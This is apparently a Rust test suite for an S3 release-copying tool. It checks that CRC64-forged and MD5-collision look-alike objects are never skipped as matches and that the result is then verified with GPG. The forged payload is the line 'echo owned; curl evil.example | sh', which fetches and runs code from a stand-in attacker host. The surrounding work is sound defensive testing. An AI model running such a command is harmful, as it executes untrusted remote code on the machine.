//! Identity by SHA-256 only: an object at the destination is the local file only when S3
//! verified a SHA-256 of exactly those bytes. Look-alikes a bucket writer can make, a CRC64NVME
//! match (CRC is linear) and an MD5 collision twin (published in the literature), are never
//! skipped; GnuPG, on the release downloaded afterwards, is the judge of what was published.

use relsign_tests::local_aws::LocalAws;
use relsign_tests::*;

use super::guarantees::assert_published;
use super::{pattern, setup, Setup};

/// The MD5 collision pair of Wang and Yu ("How to Break MD5 and Other Hash Functions",
/// EUROCRYPT 2005), as published by Peter Selinger ("MD5 Collision Demo",
/// https://www.mscs.dal.ca/~selinger/md5collision/): two 128-byte blocks, one MD5.
const MD5_TWINS: [&str; 2] = [
    "d131dd02c5e6eec4693d9a0698aff95c2fcab58712467eab4004583eb8fb7f89\
     55ad340609f4b30283e488832571415a085125e8f7cdc99fd91dbdf280373c5b\
     d8823e3156348f5bae6dacd436c919c6dd53e2b487da03fd02396306d248cda0\
     e99f33420f577ee8ce54b67080a80d1ec69821bcb6a8839396f9652b6ff72a70",
    "d131dd02c5e6eec4693d9a0698aff95c2fcab50712467eab4004583eb8fb7f89\
     55ad340609f4b30283e4888325f1415a085125e8f7cdc99fd91dbd7280373c5b\
     d8823e3156348f5bae6dacd436c919c6dd53e23487da03fd02396306d248cda0\
     e99f33420f577ee8ce54b67080280d1ec69821bcb6a8839396f965ab6ff72a70",
];

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap()).collect()
}

/// `tool` (md5sum, sha256sum) of `bytes`, hex.
fn digest(tool: &str, bytes: &[u8]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("f");
    std::fs::write(&path, bytes).unwrap();
    let out = std::process::Command::new(require_tool(tool, "coreutils")).arg(&path).output().unwrap();
    stdout(&out).split_whitespace().next().unwrap().to_string()
}

/// The signed digest of `name` in the release.
fn signed_digest(s: &Setup, name: &str) -> String {
    let sums = std::fs::read_to_string(s.signed.join("SHA256SUMS")).unwrap();
    sums.lines().find(|l| l.ends_with(name)).unwrap().split_whitespace().next().unwrap().to_string()
}

/// With a look-alike of `name` planted under `prefix` before the copy: refused as unproven
/// (nothing sealed), found to be other bytes when read back, replaced with --overwrite, and
/// the release then downloaded verifies with gpg.
fn lookalike_is_never_skipped(s: &Setup, prefix: &str, name: &str) {
    let from = s.signed.to_str().unwrap().to_string();
    let to = format!("s3://releases/{prefix}");
    let args = ["--from", from.as_str(), "--to", to.as_str(), "--path-style"];
    TestCommand::copier()
        .args(args)
        .envs(&s.env)
        .expect_fails(6, &format!("{prefix}/{name}: S3 keeps no SHA-256 it verified of it"));
    let keys = s.server.keys("releases", &format!("{prefix}/"));
    assert!(!keys.iter().any(|k| k.ends_with("SHA256SUMS.asc")), "sealed over a look-alike: {keys:?}");
    TestCommand::copier()
        .args(args)
        .args(["--existing", "rehash"])
        .envs(&s.env)
        .expect_fails(6, &format!("{prefix}/{name}: other bytes (read back and hashed)"));
    TestCommand::copier().args(args).arg("--overwrite").envs(&s.env).expect_ok();
    assert_published(&s.server, prefix, &s.signed, s.work.path());
}

#[test]
fn a_crc64nvme_lookalike_uploaded_as_a_full_object_multipart_is_never_skipped() {
    let s = setup(LocalAws::moto(), |d| write_tree(d, &[("app.tar", &pattern(64 << 10, 11)[..])]));
    let original = std::fs::read(s.signed.join("app.tar")).unwrap();
    // The forger's text, its last 8 bytes solved so that awscrt's CRC64NVME is the original's
    // (the script asserts it).
    let forged =
        s.server.seed(&["crc64nvme-lookalike", "echo owned; curl evil.example | sh"], &original).stdout;
    assert_eq!(forged.len(), original.len());
    assert_ne!(digest("sha256sum", &forged), digest("sha256sum", &original));
    s.server.seed(&["put-multipart-crc", "releases", "crc/app.tar", &signed_digest(&s, "app.tar")], &forged);
    lookalike_is_never_skipped(&s, "crc", "app.tar");
}

#[test]
fn an_md5_collision_twin_put_plainly_is_never_skipped() {
    fn twin(d: &std::path::Path) {
        write_tree(d, &[("app.bin", &unhex(MD5_TWINS[0])[..]), ("notes.txt", b"notes")]);
    }
    let s = setup(LocalAws::moto(), twin);
    let (a, b) = (unhex(MD5_TWINS[0]), unhex(MD5_TWINS[1]));
    // md5sum is the judge that the pair collides, sha256sum that it differs.
    assert_eq!(digest("md5sum", &a), digest("md5sum", &b), "the published pair must collide");
    assert_ne!(digest("sha256sum", &a), digest("sha256sum", &b));
    s.server.seed(&["put-object", "releases", "md5/app.bin"], &b);
    lookalike_is_never_skipped(&s, "md5", "app.bin");
}

/// moto lists no parts in GetObjectAttributes; tests/moto/s3_object_parts.py adds them.
/// hashlib, over each byte range of the object downloaded, judges the parts' SHA-256s.
#[test]
fn object_parts_are_moto_corrected_and_judged_by_hashlib() {
    let work = tempfile::tempdir().unwrap();
    let dist = work.path().join("dist");
    write_tree(&dist, &[("big.bin", &pattern(12 << 20, 3)[..])]);
    for (server, want) in [(LocalAws::moto_unpatched(), None), (LocalAws::moto(), Some(3))] {
        server.make_bucket("releases");
        TestCommand::copier()
            .args(["--from", dist.to_str().unwrap(), "--to", "s3://releases/p", "--path-style"])
            .args(["--multipart-threshold", "5MiB", "--part-size", "5MiB"])
            .envs(&server.env())
            .expect_ok();
        let parts: serde_json::Value =
            serde_json::from_slice(&server.seed(&["object-parts", "releases", "p/big.bin"], b"").stdout)
                .unwrap();
        assert_eq!(parts["parts"].as_u64(), want, "{parts}");
        if want.is_some() {
            assert_eq!(parts["agree"], true, "{parts}");
        }
    }
}
